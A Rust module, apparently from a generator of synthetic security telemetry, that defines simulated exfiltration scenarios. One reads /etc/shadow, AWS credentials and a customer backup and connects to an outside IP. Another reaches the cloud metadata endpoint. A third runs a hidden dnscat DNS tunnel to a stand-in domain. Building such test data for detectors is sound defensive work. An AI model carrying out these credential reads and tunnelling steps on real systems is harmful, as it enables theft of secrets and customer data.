//! Data and credentials that leave.

use crate::catalogue::builder::{Builder, Owner, Program};
use crate::seed::letters;

/// Names of one tunnel.
const TUNNEL_NAMES: usize = 120;

pub(super) fn add(b: &mut Builder, main: &Owner) {
    exfiltration(b, main);
    metadata(b, main);
    tunnel(b, main);
}

/// The main process itself, taken over: no new program at all.
fn exfiltration(b: &mut Builder, main: &Owner) {
    let g = b.attack("exfiltration");
    b.reads(g, main, &["/etc/shadow", "/home/app/.aws/credentials", "/var/backups/customers.sql.gz"]);
    b.connect(g, main, "tcp", "203.0.113.91", 443, &[]);
}

/// The same, for the node's credentials: one connection is all that shows.
fn metadata(b: &mut Builder, main: &Owner) {
    let g = b.attack("metadata-theft");
    b.connect(g, main, "tcp", "169.254.169.254", 80, &[]);
}

/// Data in the names that are asked for; drawn, since no two of them are alike.
fn tunnel(b: &mut Builder, main: &Owner) {
    let g = b.attack("dns-tunnel");
    let client = b.child(
        g,
        main,
        Program {
            exe: "/var/tmp/.d/dnscat",
            args: "/var/tmp/.d/dnscat cdn-status.example.net",
            uid: 33,
            origin: "upper",
            ..Program::default()
        },
    );
    b.reads(g, &client, &["/etc/resolv.conf"]);
    for _ in 0..TUNNEL_NAMES {
        let label = letters(&mut b.rng, b"0123456789abcdef", 56);
        b.query(g, &client, &format!("{label}.cdn-status.example.net"), "TXT");
    }
}
